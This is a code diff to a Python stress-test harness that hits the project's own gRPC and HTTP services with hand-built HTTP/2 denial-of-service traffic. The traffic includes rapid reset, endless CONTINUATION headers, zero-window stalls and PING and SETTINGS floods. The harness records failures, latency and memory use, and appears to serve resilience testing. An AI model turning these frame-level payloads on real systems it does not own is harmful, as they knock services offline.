@@ -50,8 +50,8 @@ def literal(name, value):
     return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-def head(path):
-    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"attack"),
+def head(path, method=b"POST"):
+    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"attack"),
               (b"te", b"trailers"), (b"content-type", b"application/grpc")]
     return b"".join(literal(*field) for field in fields)
 
@@ -69,7 +69,15 @@ def calls(path, body, flags, count=100):
     return opened
 
 
+def unread(path, window, count=100):
+    """Opens a connection with `count` GETs, and lets the server send `window` bytes of each response."""
+    gets = [frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, head(path, b"GET")) for number in range(count)]
+    return start_of_connection(window) + b"".join(gets)
+
+
 HELLO, WATCH = b"/hello.Hello/SayHello", b"/grpc.health.v1.Health/Watch"
+# With an empty id, as here, the answer does not depend on the database.
+GET_CUSTOMER = b"/ticketing.CustomerController/GetCustomer"
 EMPTY = bytes(5)
 
 
@@ -81,8 +89,10 @@ def get(path):
 
 
 class Attack:
-    def __init__(self, first, again=b""):
-        self.first, self.again = first, again
+    """Bytes sent first and again. `resets`, the path of a method, means calls that are reset at once."""
+
+    def __init__(self, first, again=b"", resets=None):
+        self.first, self.again, self.resets = first, again, resets
 
 
 def attacks_on_http(path):
@@ -96,33 +106,37 @@ def attacks_on_http(path):
             b"POST " + path.encode() + b" HTTP/1.1\r\nhost: attack\r\ncontent-length: 10000000\r\n\r\n" + b"x" * 60_000),
         "half preface": Attack(PREFACE[:10]),
         "http/2 pings unread": Attack(start_of_connection(), frame(PING, 0, 0, bytes(8)) * 500),
+        "http/2 zero window": Attack(unread(path.encode(), 0)),
+        "http/2 window of 1 byte": Attack(unread(path.encode(), 1)),
     }
 
 
-ATTACKS_ON_GRPC = {
-    "silent": Attack(b""),
-    "half preface": Attack(PREFACE[:10]),
-    "preface only": Attack(PREFACE),
-    "endless head": Attack(start_of_connection() + frame(HEADERS, 0, 1, head(HELLO)),
-                           frame(CONTINUATION, 0, 1, literal(b"x-filler", b"x" * 100) * 50)),
-    "half-open calls": Attack(start_of_connection() + calls(HELLO, b"", 0)),
-    "unfinished 4 MB messages": Attack(start_of_connection() + calls(
-        HELLO, b"\0" + (4_000_000).to_bytes(4, "big") + b"x" * 600, 0)),
-    "unfinished 16 KB messages": Attack(start_of_connection() + calls(
-        # As many as fit into the window of a connection.
-        HELLO, b"\0" + (16_000).to_bytes(4, "big") + b"x" * 15_000, 0, count=4)),
-    "zero window": Attack(start_of_connection(window=0) + calls(HELLO, EMPTY, END_STREAM)),
-    "health watches": Attack(start_of_connection() + calls(WATCH, EMPTY, END_STREAM)),
-    "pings unread": Attack(start_of_connection(), frame(PING, 0, 0, bytes(8)) * 500),
-    "settings unread": Attack(start_of_connection(), frame(SETTINGS, 0, 0) * 500),
-    "rapid reset": Attack(start_of_connection(), None),
-}
+def attacks_on_grpc(method):
+    return {
+        "silent": Attack(b""),
+        "half preface": Attack(PREFACE[:10]),
+        "preface only": Attack(PREFACE),
+        "endless head": Attack(start_of_connection() + frame(HEADERS, 0, 1, head(method)),
+                               frame(CONTINUATION, 0, 1, literal(b"x-filler", b"x" * 100) * 50)),
+        "half-open calls": Attack(start_of_connection() + calls(method, b"", 0)),
+        "unfinished 4 MB messages": Attack(start_of_connection() + calls(
+            method, b"\0" + (4_000_000).to_bytes(4, "big") + b"x" * 600, 0)),
+        "unfinished 16 KB messages": Attack(start_of_connection() + calls(
+            # As many as fit into the window of a connection.
+            method, b"\0" + (16_000).to_bytes(4, "big") + b"x" * 15_000, 0, count=4)),
+        "zero window": Attack(start_of_connection(window=0) + calls(method, EMPTY, END_STREAM)),
+        "health watches": Attack(start_of_connection() + calls(WATCH, EMPTY, END_STREAM)),
+        "pings unread": Attack(start_of_connection(), frame(PING, 0, 0, bytes(8)) * 500),
+        "settings unread": Attack(start_of_connection(), frame(SETTINGS, 0, 0) * 500),
+        "rapid reset": Attack(start_of_connection(), resets=method),
+    }
 
 
 ATTACKS = {
-    "hellogrpc": ATTACKS_ON_GRPC,
+    "hellogrpc": attacks_on_grpc(HELLO),
     "hellohttp": attacks_on_http("/hellohttp?name=x"),
     "helloserve": attacks_on_http("/hellogrpc?name=x"),
+    "ticketing": attacks_on_grpc(GET_CUSTOMER),
 }
 
 
@@ -143,11 +157,11 @@ class Attackers:
         self.sockets.append((connection, bytearray(self.attack.first)))
 
     def again(self, connection):
-        if self.attack.again is not None:
+        if self.attack.resets is None:
             return self.attack.again
         stream = self.next_stream.get(connection, 1)
         self.next_stream[connection] = stream + 40
-        return b"".join(frame(HEADERS, END_HEADERS, each, head(HELLO)) + frame(RST_STREAM, 0, each, bytes([0, 0, 0, 8]))
+        return b"".join(frame(HEADERS, END_HEADERS, each, head(self.attack.resets)) + frame(RST_STREAM, 0, each, bytes([0, 0, 0, 8]))
                         for each in range(stream, stream + 40, 2))
 
     def turn(self):
@@ -242,11 +256,11 @@ def http_call(address, path, timeout):
     return call
 
 
-def grpc_call(address, timeout):
+def grpc_call(address, timeout, path=HELLO):
     import grpc  # Only here: the process of the attackers does not need it.
 
     channel = grpc.insecure_channel("{}:{}".format(*address))
-    method = channel.unary_unary(HELLO.decode())
+    method = channel.unary_unary(path.decode())
     return lambda: method(b"", timeout=timeout, wait_for_ready=True)
 
 
@@ -264,7 +278,8 @@ def probe(address, timeout=2):
 
 def memory_limit(program):
     """Returns the memory limit of the program's manifest, in bytes."""
-    manifest = (ROOT / "kubeyamls" / f"{program}.yaml").read_text(encoding="utf-8")
+    folder = ROOT / "kubeyamls" / ("optional" if program == "ticketing" else "")
+    manifest = (folder / f"{program}.yaml").read_text(encoding="utf-8")
     return int(re.search(r"limits:.*?memory: (\d+)Mi", manifest, re.S).group(1)) << 20
 
 
@@ -377,6 +392,7 @@ def main():
         "hellogrpc": ({}, grpc_call),
         "hellohttp": ({}, lambda address, timeout: http_call(address, "/hellohttp?name=x", timeout)),
         "helloserve": (to_backends, lambda address, timeout: http_call(address, "/hellogrpc?name=x", timeout)),
+        "ticketing": ({}, lambda address, timeout: grpc_call(address, timeout, GET_CUSTOMER)),
     }
     print("| program | attack | calls | failed | slowest ms | slowest health check ms | MB idle, peak, after | closed |")
     print("| --- | --- | --- | --- | --- | --- | --- | --- |", flush=True)
